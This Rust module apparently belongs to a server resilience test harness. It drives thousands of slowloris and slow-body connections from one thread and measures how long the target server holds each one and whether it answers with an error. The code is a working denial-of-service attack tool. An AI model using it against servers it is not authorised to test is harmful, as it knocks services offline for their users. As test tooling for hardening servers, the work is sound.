//! Attackers that hold connections open by trickling bytes: slowloris
//! (a request head, a byte at a time) and slow bodies (a declared body, a
//! byte at a time). One thread drives every attacker over non-blocking
//! sockets, so that thousands of them cost the driver no thread each.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use crate::client;

/// How often the driver's loop wakes: writes due bytes, notices closes.
const TICK: Duration = Duration::from_millis(20);

/// What the attackers do.
#[derive(Debug, Clone)]
pub(crate) struct Attack {
    /// How many connections are open at once.
    pub(crate) connections: usize,
    /// Written whole right after connecting.
    pub(crate) head: Vec<u8>,
    /// Then written one byte per `interval`, cycling.
    pub(crate) trickle: Vec<u8>,
    /// Time between two trickled bytes.
    pub(crate) interval: Duration,
    /// How long the attack lasts; attackers still open then are counted
    /// as held for the whole of it.
    pub(crate) duration: Duration,
    /// Whether an attacker the server closed is replaced by a new one
    /// (slowloris), while the attack lasts.
    pub(crate) reconnect: bool,
}

/// What the attack measured.
#[derive(Debug, Default, Clone)]
pub(crate) struct Outcome {
    /// Connections opened (replacements included).
    pub(crate) opened: usize,
    /// Connections that could not be opened.
    pub(crate) connect_failed: usize,
    /// How long each connection the server closed was held, from connect
    /// to the close.
    pub(crate) held: Vec<Duration>,
    /// Attackers still open when the attack ended.
    pub(crate) open_at_end: usize,
    /// How long those had been held.
    pub(crate) open_held: Vec<Duration>,
    /// Closed connections that got response bytes first (an error status
    /// such as 408) rather than a bare close.
    pub(crate) answered: usize,
}

impl Outcome {
    /// The longest any attacker was held (closed or still open).
    pub(crate) fn max_held(&self) -> Duration {
        self.held
            .iter()
            .chain(&self.open_held)
            .copied()
            .max()
            .unwrap_or_default()
    }

    /// The median time the closed attackers were held.
    pub(crate) fn median_closed(&self) -> Duration {
        client::quantile(&mut self.held.clone(), 0.5)
    }
}

struct Slot {
    stream: TcpStream,
    opened: Instant,
    next: Instant,
    sent: usize,
    got_bytes: bool,
}

fn open(addr: SocketAddr, attack: &Attack, now: Instant, index: usize) -> Option<Slot> {
    let mut stream = TcpStream::connect_timeout(&addr, client::IO_TIMEOUT).ok()?;
    stream.set_write_timeout(Some(client::IO_TIMEOUT)).ok()?;
    stream.write_all(&attack.head).ok()?;
    stream.set_nonblocking(true).ok()?;
    // Spread the attackers' writes over the interval.
    let spread = attack.interval.mul_f64((index % 100) as f64 / 100.0);
    Some(Slot {
        stream,
        opened: now,
        next: now + spread,
        sent: 0,
        got_bytes: false,
    })
}

/// Runs `attack` against `addr` on the calling thread, and returns what it
/// measured. `during` is called once every tick with the time since the
/// attack started (the scenario samples the server with it).
pub(crate) fn run(addr: SocketAddr, attack: &Attack, mut during: impl FnMut(Duration)) -> Outcome {
    let mut outcome = Outcome::default();
    let started = Instant::now();
    let mut slots: Vec<Option<Slot>> = Vec::with_capacity(attack.connections);
    for index in 0..attack.connections {
        if started.elapsed() > attack.duration {
            break;
        }
        let slot = open(addr, attack, Instant::now(), index);
        if slot.is_some() {
            outcome.opened += 1;
        } else {
            outcome.connect_failed += 1;
        }
        slots.push(slot);
    }
    let mut buf = [0u8; 4096];
    let mut replaced = 0usize;
    while started.elapsed() < attack.duration {
        let now = Instant::now();
        for (index, entry) in slots.iter_mut().enumerate() {
            let Some(slot) = entry else { continue };
            // Each attacker is looked at once per interval: whether the
            // server closed it (so a close is seen within one interval),
            // then its next byte.
            if slot.next > now {
                continue;
            }
            let mut closed = false;
            match slot.stream.read(&mut buf) {
                Ok(0) => closed = true,
                Ok(_) => slot.got_bytes = true,
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => closed = true,
            }
            if !closed && attack.trickle.is_empty() {
                slot.next += attack.interval;
            }
            if !closed && !attack.trickle.is_empty() {
                let byte = attack.trickle[slot.sent % attack.trickle.len()];
                match slot.stream.write(&[byte]) {
                    Ok(_) => {
                        slot.sent += 1;
                        slot.next += attack.interval;
                    }
                    Err(error) if error.kind() == ErrorKind::WouldBlock => {
                        slot.next += attack.interval;
                    }
                    Err(_) => closed = true,
                }
            }
            if closed {
                outcome.held.push(now - slot.opened);
                if slot.got_bytes {
                    outcome.answered += 1;
                }
                *entry = None;
                if attack.reconnect && started.elapsed() < attack.duration {
                    replaced += 1;
                    *entry = open(addr, attack, Instant::now(), index + replaced);
                    if entry.is_some() {
                        outcome.opened += 1;
                    } else {
                        outcome.connect_failed += 1;
                    }
                }
            }
        }
        during(started.elapsed());
        std::thread::sleep(TICK);
    }
    let end = Instant::now();
    for slot in slots.into_iter().flatten() {
        outcome.open_at_end += 1;
        outcome.open_held.push(end - slot.opened);
    }
    outcome
}
